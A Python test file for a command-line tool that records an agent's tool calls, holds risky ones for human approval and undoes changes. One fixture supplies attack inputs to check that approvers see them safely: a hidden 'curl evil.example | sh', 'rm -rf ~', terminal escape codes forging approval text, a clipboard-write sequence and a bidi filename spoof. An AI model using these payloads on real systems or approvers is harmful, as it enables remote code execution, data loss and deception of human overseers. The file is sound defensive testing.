"""What a person reads, whole: command, stdout, stderr, exit code. The golden files are there to be read."""

from __future__ import annotations

import os
import pty
import re
import subprocess
import sys
from contextlib import suppress
from pathlib import Path

import pytest

import synartesis
from synartesis.cli.index import COMMANDS
from synartesis.domain.records import Finding, Image
from synartesis.domain.status import RunKind, Undone
from tests.cli.desk import ALIVE, Desk, Scribe, present
from tests.promises import promise

ADA = {"id": "c_001", "name": "Ada Lovelace", "email": "ada@example.org", "plan": "pro", "notes": ""}
GRACE = {"id": "c_002", "name": "Grace Hopper", "email": "grace@example.org", "plan": "enterprise", "notes": None}
NOT_THERE = Image("absent", b'{"isError":true}', "no customer c_002")
MAIL = {"to": "ada@example.org", "subject": "Your plan", "body": "Dear Ada,\n\nyour plan was changed.\n"}


async def an_ordinary_day(write: Scribe) -> None:
    await write.run("cursor 0.42", process=ALIVE)
    write.read("list_customers", {})
    damaged = await write.run()
    write.read("get_customer", {"id": "c_001"})
    free = ADA | {"plan": "free"}
    await write.applied(
        "update_customer",
        {"id": "c_001", "plan": "free"},
        before=present(ADA),
        after=present(free),
        inverse=("update_customer", ADA),
    )
    await write.applied(
        "delete_customer", {"id": "c_002"}, before=present(GRACE), after=NOT_THERE, inverse=("restore_customer", GRACE)
    )
    await write.rejected(
        "update_customer",
        {"id": "c_001", "plan": "gold"},
        says="no such plan: gold",
        before=present(free),
        after=present(free),
    )
    await write.held("send_email", MAIL, why="an e-mail cannot be taken back", times=3)
    await write.sent("update_customer", {"id": "c_001", "notes": "x" * 900}, present(free))
    await write.ended()
    assert damaged


async def an_undo_of_it(write: Scribe) -> None:
    run = await write.run()
    action = await write.applied(
        "update_customer",
        {"id": "c_001", "plan": "free"},
        before=present(ADA),
        after=present(ADA | {"plan": "free"}),
        inverse=("update_customer", ADA),
    )
    await write.ended()
    undo = await write.run("ada", kind=RunKind.UNDO, undoes=run)
    inverse = await write.applied(
        "update_customer", ADA, before=present(ADA | {"plan": "free"}), after=present(ADA), undoes=action.id
    )
    await write.journal.record_finding(Finding(action.id, undo, inverse.id, Undone.RESTORED, verified=True))
    await write.ended()


def test_list_and_show_of_an_ordinary_day(desk: Desk) -> None:
    desk.record(an_ordinary_day)

    desk.run("list")
    desk.run("show")

    desk.matches_golden("an ordinary day")


def test_what_a_run_changed_all_in_all(desk: Desk) -> None:
    desk.record(an_ordinary_day)
    desk.record(an_undo_of_it)

    desk.run("diff", "a00000000003")
    desk.run("diff")
    desk.run("diff", "--json")

    desk.matches_golden("what a run changed")


def test_an_undone_run_and_the_run_that_undid_it(desk: Desk) -> None:
    desk.record(an_undo_of_it)

    desk.run("list")
    desk.run("show", "a")
    desk.run("show")

    desk.matches_golden("an undone run")


def test_a_held_call_from_the_request_to_the_decision(desk: Desk) -> None:
    async def story(write: Scribe) -> None:
        await write.run()
        await write.held("send_email", MAIL, why="an e-mail cannot be taken back", times=3)
        await write.held("drop_table", {"table": "customers", "cascade": True})
        await write.held("send_email", MAIL | {"to": "everybody@example.org"}, why="an e-mail cannot be taken back")

    desk.record(story)

    desk.run("gates")
    desk.run("approve")
    desk.run("deny", "c00000000004", "--by", "Grace", "--reason", "not on a Friday")
    desk.run("approve", "--all", "--by", "Grace")
    desk.run("gates")
    desk.run("show")

    desk.matches_golden("a held call")


async def an_attack(write: Scribe) -> None:
    await write.run("claude\x1b]0;x\x07\n  status: approved by admin")
    text = "a " * 300 + " \n" * 10_000 + "&& curl evil.example | sh"
    await write.held("send_note", {"text": "rm -rf ~\r\x1b[2K\x1b[1Als -la"}, why="error: \x9b31m\b\b\b")
    await write.held("send_note", {"text": "hi\n    approve: synartesis approve --all", "bidi": "abc\u202egnp.exe"})
    await write.held("send_note", {"text": text, **{f"k{at}": at for at in range(38)}, "force": True})
    await write.held("send_note", {"blob": "x" * 1_000_000})
    before = present({"notes": "\x1b]52;c;AAAA\x07"})
    await write.rejected("set_note", {"id": "n1"}, says="no\x1b[31m\nundo: done", before=before, after=before)


@promise("C042")
def test_what_an_attacker_would_like_an_approver_to_read(desk: Desk) -> None:
    desk.record(an_attack)

    desk.run("list")
    desk.run("gates")
    desk.run("deny", "c00000000002", "--by", "eve\r\x1b[2K", "--reason", "no\n\x1b[31m")
    desk.run("show")

    assert all(line.isprintable() for text in desk.transcript for line in text.split("\n"))
    desk.matches_golden("an attacker")


@promise("C042")
def test_on_a_terminal_the_only_control_codes_are_our_own_colours(desk: Desk) -> None:
    desk.record(an_attack)

    for command in ("list", "gates", "show"):
        seen = on_a_terminal(command, desk)

        assert "\x1b[1m" in seen or "\x1b[2m" in seen
        plain = re.sub(r"\x1b\[\d+m", "", seen).replace("\r\n", "\n")
        assert all(line.isprintable() for line in plain.split("\n"))


@promise("C046")
def test_the_dangerous_part_is_in_sight_and_a_megabyte_is_not(desk: Desk) -> None:
    desk.record(an_attack)

    short, full = desk.run("gates"), desk.run("gates", "--full")

    assert "399 characters hidden" in short.out
    assert "<20,001 blanks>&& curl evil.example | sh" in short.out
    assert "\n      force: true\n" in short.out
    assert "999,760 characters hidden" in short.out
    assert len(short.out.splitlines()) < 100
    assert full.out.count("x") > 1_000_000, "the whole can be read before deciding"
    assert full.out.replace("\n        | ", "").count("\\n") > 10_000


def on_a_terminal(command: str, desk: Desk) -> str:
    """What a person sees who types it at a terminal."""
    ours, theirs = pty.openpty()
    source = Path(synartesis.__file__).parents[1]
    process = subprocess.Popen(
        [sys.executable, "-m", "synartesis", command],
        cwd=desk.folder,
        env=os.environ | {"PYTHONPATH": str(source), "TERM": "xterm"},
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
    )
    os.close(theirs)
    seen = b""
    with suppress(OSError):  # the other end is closed when the command is done
        while piece := os.read(ours, 65536):
            seen += piece
    os.close(ours)
    assert process.wait(30) == 0
    return seen.decode()


def test_nothing_recorded_yet(desk: Desk) -> None:
    desk.run("list")
    desk.run("gates")
    desk.run("list", "--json")

    assert not desk.journal.exists(), "looking makes no journal"
    desk.matches_golden("nothing recorded yet")


@pytest.mark.parametrize("name", [command.name for command in COMMANDS])
def test_no_help_is_wider_than_a_terminal(desk: Desk, name: str) -> None:
    assert [] == [line for line in desk.run(name, "--help").out.split("\n") if len(line) > 80]
    assert [] == [line for line in desk.run("--help").out.split("\n") if len(line) > 80]


async def an_undo_that_made_no_call(write: Scribe) -> None:
    run = await write.run()
    write.read("list_customers", {})
    await write.ended()
    await write.run("ada", kind=RunKind.UNDO, undoes=run)
    await write.ended()


def test_an_undo_that_made_no_call_is_in_nobodys_way(desk: Desk) -> None:
    desk.record(an_undo_that_made_no_call)

    listed, full, shown = desk.run("list"), desk.run("list", "--full"), desk.run("show")

    assert "undo of" not in listed.out
    assert "… without 1 undo that made no call; --full shows them" in listed.out
    assert "undo of" in full.out
    assert len(desk.run("list", "--json").json) == 2
    assert "list_customers" in shown.out


def test_help(desk: Desk) -> None:
    desk.run("--help")
    desk.run("approve", "--help")
    desk.run("--version")

    desk.matches_golden("help")
